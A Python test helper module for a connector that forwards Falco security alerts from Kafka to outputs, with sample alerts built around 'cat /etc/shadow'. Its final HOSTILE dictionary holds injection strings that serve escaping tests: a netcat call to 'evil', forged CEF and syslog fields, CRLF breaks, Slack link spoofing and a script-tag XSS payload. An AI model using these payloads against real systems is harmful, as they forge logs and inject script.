"""Helpers for output tests: Falco-shaped alerts on the real broker, and a connector running in a thread."""

from __future__ import annotations

import threading
import time
import uuid
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

import orjson
from confluent_kafka import Consumer, Producer

from outputs.config import parse_outputs
from outputs.supervisor import run_outputs
from schemas.codec import encode_alert
from settings.config import Config
from settings.kafka_clients import consumer_config, producer_config


def make_alert(n: int = 0, rule: str = "Read sensitive file untrusted", priority: str = "Warning",
               hostname: str = "test-host", **fields: Any) -> dict[str, Any]:
    """A Falco JSON alert as the worker writes it (keys sorted on the wire, plus the deterministic uuid)."""
    output_fields = {"evt.time": 1795899613123456789 + n, "proc.name": "cat", "proc.cmdline": f"cat /etc/shadow #{n}",
                     "fd.name": "/etc/shadow", "user.name": "root", "container.name": "host"}
    output_fields.update(fields)
    msg = " ".join(f"{k}={v}" for k, v in output_fields.items() if k != "evt.time")
    return {
        "hostname": hostname, "output": f"21:00:13.{123456789 + n:09d}: {priority} Sensitive file opened ({msg})",
        "output_fields": output_fields, "priority": priority, "rule": rule, "source": "syscall",
        "tags": ["filesystem", "mitre_credential_access"], "time": f"2026-11-28T21:00:13.{123456789 + n:09d}Z",
        "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"{hostname}/{n}/{rule}")),
    }


def produce(cfg: Config, alerts: list[dict[str, Any]], raw: list[bytes] | None = None) -> None:
    producer = Producer(producer_config(cfg.kafka))
    for alert in alerts:
        producer.produce(cfg.kafka.topics.alerts, encode_alert(alert), key=alert["hostname"].encode())
    for value in raw or []:
        producer.produce(cfg.kafka.topics.alerts, value)
    assert producer.flush(30) == 0


def read_topic(cfg: Config, topic: str, count: int, timeout: float = 60.0) -> list[tuple[dict[str, Any], dict[str, bytes]]]:
    """`count` records from the start of `topic` (JSON values, headers), or fewer after `timeout`."""
    consumer = Consumer(consumer_config(cfg.kafka, f"reader-{uuid.uuid4()}"))
    consumer.subscribe([topic])
    out: list[tuple[dict[str, Any], dict[str, bytes]]] = []
    deadline = time.monotonic() + timeout
    try:
        while len(out) < count and time.monotonic() < deadline:
            for msg in consumer.consume(100, 0.5):
                if msg.error() is None:
                    out.append((orjson.loads(msg.value() or b"null"), _headers(msg)))
    finally:
        consumer.close()
    return out


def _headers(msg: Any) -> dict[str, bytes]:
    return {str(k): (v.encode() if isinstance(v, str) else bytes(v or b"")) for k, v in (msg.headers() or [])}


def wait_for(predicate: Callable[[], bool], timeout: float = 60.0, what: str = "condition") -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if predicate():
            return
        time.sleep(0.1)
    raise AssertionError(f"timed out waiting for {what}")


@contextmanager
def running_outputs(cfg: Config, spec: dict[str, Any]) -> Iterator[threading.Event]:
    """The connector as `peregrine outputs --config` runs it, in a thread of this process."""
    spec.setdefault("metrics", {"port": 0})
    parsed = parse_outputs(spec, "test-outputs.yaml")
    stop = threading.Event()
    result: list[int] = []
    thread = threading.Thread(target=lambda: result.append(run_outputs(cfg, parsed, stop)), daemon=True)
    thread.start()
    try:
        yield stop
    finally:
        stop.set()
        thread.join(60)
    assert not thread.is_alive(), "connector did not stop"
    assert result == [0], f"connector exit code {result}"


def build_output(type_name: str, **options: Any) -> Any:
    """An output as the connector builds it from outputs.yaml (options checked strictly)."""
    from outputs.config import OutputSpec
    from outputs.registry import create

    return create(OutputSpec(name=f"test-{type_name}", type=type_name, options=options, where="test"))


def send(output: Any, alerts: list[dict[str, Any]]) -> None:
    """start, send, close in one event loop, as the output's worker thread does."""
    import asyncio

    async def go() -> None:
        await output.start()
        try:
            await output.send(alerts)
        finally:
            await output.close()

    asyncio.run(go())


# Values an attacker controls (file names, command lines, container names) built to break every format.
HOSTILE = {
    "proc.cmdline": 'sh -c "x" | nc evil 1 act=blocked suser=root \\ end] [evil@1 a="b"]\nCEF:0|fake|line',
    "fd.name": "/tmp/a=b|c\\d]\"e\r\nnext",
    "container.name": "<!channel> <http://evil.example|click> & <script>alert(1)</script> *bold* [x](http://e)",
}
